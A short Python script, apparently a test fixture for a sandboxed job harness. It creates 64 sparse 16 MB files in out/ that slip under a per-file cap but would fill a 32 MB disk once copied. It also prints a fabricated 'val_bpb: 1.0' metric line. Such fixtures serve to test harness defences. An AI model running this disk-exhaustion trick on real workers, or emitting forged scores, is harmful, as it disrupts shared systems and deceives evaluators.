"""Attack: sparse files in out/, each under the per-file cap and nearly free on disk, that
copied would fill the worker's disk: 64 files of 16 MB against a 32 MB disk cap."""

FILES = 64
FILE_MB = 16  # under the task's per-file cap

for i in range(FILES):
    with open(f"out/sparse-{i}.bin", "wb") as f:
        f.truncate(FILE_MB << 20)
print(f"wrote {FILES * FILE_MB} MB of holes")
print("---")
print("val_bpb: 1.0")
